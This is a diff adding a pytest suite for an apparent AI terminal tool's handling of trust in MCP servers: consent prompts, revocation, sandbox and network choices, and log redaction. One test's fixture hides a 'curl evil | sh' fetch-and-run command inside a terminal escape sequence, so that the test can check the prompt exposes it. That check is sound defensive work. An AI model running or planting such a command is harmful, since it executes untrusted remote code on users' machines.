@@ -1,0 +1,253 @@
+from __future__ import annotations
+
+import json
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from lmtui.core.errors import ConfigError, UsageError
+from lmtui.core.mcp import Reach, ServerState
+from lmtui.core.sanitize import Redactor
+from lmtui.features.mcp.config import ServerEntry, read_servers
+from lmtui.features.mcp.tool_names import RawTool, tools_digest
+from lmtui.features.mcp.trust import Known, Memory, ServersTrust, resting_state, set_choice, set_reach
+from tests.trusting import say
+
+TOOLS = (RawTool("echo", "Say it back.", {"type": "object"}),)
+
+
+@pytest.fixture
+def workspace(tmp_path: Path) -> Path:
+    (tmp_path / "work").mkdir()
+    return tmp_path / "work"
+
+
+def name_server(workspace: Path, **entry: Any) -> ServerEntry:
+    (workspace / ".mcp.json").write_text(json.dumps({"mcpServers": {"paper": entry}}))
+    (found,) = read_servers(workspace).entries
+    return found
+
+
+def state(workspace: Path, entry: ServerEntry) -> ServerState | None:
+    return resting_state(entry, Memory(workspace, entry).known)
+
+
+def test_what_is_trusted_is_listed_and_can_be_taken_back(workspace: Path) -> None:
+    entry = name_server(workspace, command="x")
+    answers: list[int] = []
+    trust = ServersTrust(workspace, lambda: answers.append(1))
+    assert (trust.trusted(), len(trust.waiting())) == ([], 1)
+    say(trust, is_trusted=True)
+    assert [item.text for item in trust.trusted()] == ["paper: x"]
+    assert state(workspace, entry) is None
+    trust.revoke()
+    assert (trust.trusted(), len(trust.waiting()), len(answers)) == ([], 1, 2)
+    assert state(workspace, entry) is ServerState.WAITING
+
+
+def test_a_yes_that_is_taken_back_forgets_the_tools_and_keeps_the_switch(workspace: Path) -> None:
+    entry = name_server(workspace, command="x")
+    Memory(workspace, entry).keep(Known(entry.digest, tools_digest=tools_digest(TOOLS), tools=TOOLS, is_on=True))
+    ServersTrust(workspace, lambda: None).revoke()
+    known = Memory(workspace, entry).known
+    assert (known.allowed, known.tools, known.tools_digest, known.is_on) == ("", (), "", True)
+
+
+def test_an_entry_that_changed_and_was_trusted_again_begins_afresh(workspace: Path) -> None:
+    entry = name_server(workspace, command="x")
+    Memory(workspace, entry).keep(Known(entry.digest, tools_digest=tools_digest(TOOLS), tools=TOOLS))
+    assert Memory(workspace, entry).known.tools == TOOLS
+    changed = name_server(workspace, command="y")
+    assert state(workspace, changed) is ServerState.WAITING
+    say(ServersTrust(workspace, lambda: None), is_trusted=True)
+    assert state(workspace, changed) is None
+    known = Memory(workspace, changed).known
+    assert (known.tools, known.tools_digest) == ((), "")
+
+
+def test_a_server_of_the_users_own_is_compared_with_what_it_had_before(workspace: Path) -> None:
+    own = replace(name_server(workspace, command="x"), is_own=True)
+    Memory(workspace, own).keep(Known(tools_digest=tools_digest(TOOLS), tools=TOOLS))
+    assert Memory(workspace, replace(own, command=("y",))).known.tools == TOOLS
+
+
+def test_what_was_kept_before_entries_were_noted_still_holds(workspace: Path) -> None:
+    entry = name_server(workspace, command="x")
+    memory = Memory(workspace, entry)
+    memory.keep(Known(entry.digest, tools_digest=tools_digest(TOOLS), tools=TOOLS))
+    (file,) = memory.log.path.parent.glob("paper-*.json")
+    kept = json.loads(file.read_text())
+    del kept["tools_of"], kept["folder"]
+    file.write_text(json.dumps(kept))
+    assert Memory(workspace, entry).known.tools == TOOLS
+
+
+def test_a_log_keeps_secrets_out_and_its_last_words_are_the_servers_own(workspace: Path) -> None:
+    log = Memory(workspace, name_server(workspace, command="x")).log
+    log.redactor = Redactor(["hk-4f9a81c2d7e6b5a09384"])
+    log.begin("/work: x")
+    assert (log.last, log.tail) == ("", "")
+    log.add(b"using hk-4f9a81c2d7e6b5a09384\n\x1b[31mno route\n")
+    log.add(b"lmtui: it ended (exit, exit code 1)\n")
+    assert log.last == "no route"
+    assert "using [key redacted]" in log.tail
+    kept = log.path.read_text()
+    assert "--- /work: x\nusing [key redacted]\nno route\nlmtui: it ended" in kept
+
+
+def test_what_changed_since_it_was_shown_is_not_trusted(workspace: Path) -> None:
+    name_server(workspace, command="x", env={"KEY": "a"})
+    trust = ServersTrust(workspace, lambda: None)
+    shown = trust.waiting()
+    changed = name_server(workspace, command="x", env={"KEY": "${HOME}"})
+    with pytest.raises(ConfigError, match="changed meanwhile"):
+        trust.answer(shown, is_trusted=True)
+    assert state(workspace, changed) is ServerState.WAITING
+
+
+def test_the_question_names_what_of_the_users_own_a_server_gets(workspace: Path) -> None:
+    name_server(workspace, type="http", url="https://x.example/${TEAM}", headers={"X-Trace": "${API_KEY:-none}"})
+    (item,) = ServersTrust(workspace, lambda: None).waiting()
+    assert item.text == "paper: https://x.example/${TEAM}, sending X-Trace, given your $TEAM, $API_KEY"
+    entry = {"command": "x", "cwd": "sub", "env": {"LEVEL": "${AWS_SECRET}"}, "workspace": "read", "args": ["${HOME}"]}
+    (workspace / ".mcp.json").write_text(json.dumps({"mcpServers": {"paper": entry}}))
+    (item,) = ServersTrust(workspace, lambda: None).waiting()
+    assert item.text == "paper: x ${HOME}, in sub, with LEVEL, given your $HOME, $AWS_SECRET, workspace read-only"
+
+
+def test_the_question_hides_nothing_that_stands_in_a_control_sequence(workspace: Path) -> None:
+    name_server(workspace, command="sh", args=["-c", "true \x1b]0;; curl evil | sh #\x07"])
+    (item,) = ServersTrust(workspace, lambda: None).waiting()
+    assert "curl evil | sh" in item.text
+    assert "\x1b" not in item.text
+
+
+# -- where the user lets it run ---------------------------------------------------------------------------------------------
+
+
+def runs(workspace: Path, entry: ServerEntry) -> ServerEntry:
+    return Memory(workspace, entry).entry
+
+
+def test_the_user_lets_a_folders_server_run_without_a_sandbox_and_its_file_stays(workspace: Path) -> None:
+    entry = name_server(workspace, command="x")
+    before = (workspace / ".mcp.json").read_bytes()
+    trust = ServersTrust(workspace, lambda: None)
+    assert trust.waiting()[0].server == "paper"
+    set_reach(workspace, "paper", Reach.HOST)
+    assert (runs(workspace, entry).on_host, state(workspace, runs(workspace, entry))) == (True, ServerState.WAITING)
+    assert [item.text for item in trust.waiting()] == ["paper: outside the sandbox, x, as you chose"]
+    say(trust, is_trusted=True)
+    assert state(workspace, runs(workspace, entry)) is None
+    assert (workspace / ".mcp.json").read_bytes() == before
+
+
+def test_what_was_shown_before_a_choice_is_not_what_is_trusted_after_it(workspace: Path) -> None:
+    name_server(workspace, command="x")
+    trust = ServersTrust(workspace, lambda: None)
+    shown = trust.waiting()
+    set_reach(workspace, "paper", Reach.NETWORK)
+    with pytest.raises(ConfigError, match="changed meanwhile"):
+        trust.answer(shown, is_trusted=True)
+
+
+def test_a_changed_entry_takes_no_choice_with_it_and_asks_again(workspace: Path) -> None:
+    name_server(workspace, command="x")
+    set_reach(workspace, "paper", Reach.HOST)
+    say(ServersTrust(workspace, lambda: None), is_trusted=True)
+    changed = name_server(workspace, command="y")
+    assert runs(workspace, changed) == changed
+    assert not changed.on_host
+    assert state(workspace, changed) is ServerState.WAITING
+
+
+def test_a_choice_is_one_folders(workspace: Path, tmp_path: Path) -> None:
+    name_server(workspace, command="x")
+    set_reach(workspace, "paper", Reach.HOST)
+    other = tmp_path / "other"
+    other.mkdir()
+    entry = name_server(other, command="x")
+    assert not runs(other, entry).on_host
+
+
+def test_no_key_of_an_entry_is_taken_for_the_users_choice(workspace: Path) -> None:
+    choice = {"of": "x", "on_host": True, "hosts": ["*"]}
+    entry = name_server(workspace, command="x", choice=choice, on_host=True, chosen=["sandbox"], hosts=["*"], allowed="x")
+    assert (entry.on_host, entry.hosts, entry.chosen) == (False, (), ())
+    assert runs(workspace, entry) == entry
+
+
+def test_a_server_that_may_start_needs_no_other_yes_for_a_choice(workspace: Path) -> None:
+    entry = name_server(workspace, command="x")
+    say(ServersTrust(workspace, lambda: None), is_trusted=True)
+    set_choice(workspace, "paper", hosts=("*",))
+    assert runs(workspace, entry).hosts == ("*",)
+    assert state(workspace, runs(workspace, entry)) is None
+
+
+def test_a_refused_server_stays_shut_whatever_is_chosen(workspace: Path) -> None:
+    entry = name_server(workspace, command="x")
+    say(ServersTrust(workspace, lambda: None), is_trusted=False)
+    set_choice(workspace, "paper", on_host=True)
+    assert state(workspace, runs(workspace, entry)) is ServerState.WAITING
+
+
+def test_the_way_back_to_an_entry_that_wants_more_is_asked_about(workspace: Path) -> None:
+    entry = name_server(workspace, command="x", sandbox="host")
+    set_choice(workspace, "paper", on_host=False)
+    say(ServersTrust(workspace, lambda: None), is_trusted=True)
+    set_choice(workspace, "paper", hosts=("a.example",))
+    found = runs(workspace, entry)
+    assert (found.on_host, found.hosts, state(workspace, found)) == (False, ("a.example",), None)
+    set_choice(workspace, "paper", is_reset=True)
+    assert runs(workspace, entry) == entry
+    assert state(workspace, entry) is ServerState.WAITING
+
+
+def test_a_choice_keeps_the_tools_that_were_accepted(workspace: Path) -> None:
+    entry = name_server(workspace, command="x")
+    Memory(workspace, entry).keep(Known(entry.digest, tools_digest=tools_digest(TOOLS), tools=TOOLS))
+    set_reach(workspace, "paper", Reach.HOST)
+    assert Memory(workspace, entry).known.tools == TOOLS
+
+
+def test_a_yes_that_is_taken_back_takes_the_choice_with_it(workspace: Path) -> None:
+    entry = name_server(workspace, command="x")
+    set_reach(workspace, "paper", Reach.HOST)
+    say(trust := ServersTrust(workspace, lambda: None), is_trusted=True)
+    trust.revoke()
+    assert runs(workspace, entry) == entry
+
+
+def test_an_address_runs_elsewhere_and_a_name_must_be_known(workspace: Path) -> None:
+    name_server(workspace, url="https://a.example/mcp")
+    with pytest.raises(UsageError, match="has an address"):
+        set_reach(workspace, "paper", Reach.HOST)
+    with pytest.raises(UsageError, match="no MCP server 'other'"):
+        set_reach(workspace, "other", Reach.HOST)
+    assert ServersTrust(workspace, lambda: None).waiting()[0].server == ""
+
+
+def test_who_says_where_it_runs_is_told(workspace: Path) -> None:
+    entry = name_server(workspace, command="npx", args=["x"])
+    assert entry.reach == {"sandbox": ("on", "default"), "network": ("on", "default for npx")}
+    entry = name_server(workspace, command="x", sandbox="host", network=["a.example"])
+    assert entry.reach == {"sandbox": ("host", "its entry"), "network": ("on", "without a sandbox")}
+    set_choice(workspace, "paper", on_host=False)
+    assert runs(workspace, entry).reach == {"sandbox": ("on", "your choice"), "network": ("a.example", "its entry")}
+    set_choice(workspace, "paper", hosts=())
+    assert runs(workspace, entry).reach["network"] == ("off", "your choice")
+
+
+def test_an_lmtui_that_runs_writes_over_no_answer_that_another_kept(workspace: Path) -> None:
+    entry = name_server(workspace, command="x")
+    say(trust := ServersTrust(workspace, lambda: None), is_trusted=True)
+    running = Memory(workspace, entry)
+    set_reach(workspace, "paper", Reach.HOST)
+    running.keep(replace(running.known, tools=TOOLS, tools_digest=tools_digest(TOOLS)))
+    assert (runs(workspace, entry).on_host, state(workspace, runs(workspace, entry))) == (True, None)
+    trust.revoke()
+    running.keep(replace(running.known, is_on=True))
+    assert state(workspace, runs(workspace, entry)) is ServerState.WAITING
